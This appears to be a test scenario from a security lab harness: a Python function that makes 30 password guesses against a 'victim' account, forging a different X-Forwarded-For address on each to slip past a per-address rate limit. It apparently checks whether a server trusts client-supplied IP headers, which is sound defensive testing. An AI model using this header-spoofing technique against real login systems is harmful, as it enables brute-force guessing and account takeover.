"""Each guess claims to come from another address, so that no limit of an address is met."""

from http import HTTPStatus

from lab.world import World

STORY = __doc__
LAYERS = ("client_ip",)


def attack(world: World) -> bool:
    limit = 30  # the lab's server allows 20 a minute
    for number in range(limit):
        username = world.unique("victim").replace(" ", "") + "@acme.example"
        answer = world.guess(username, "guess", X_Forwarded_For=f"198.51.100.{number}")
        if answer.status != HTTPStatus.OK:
            return False
    return True
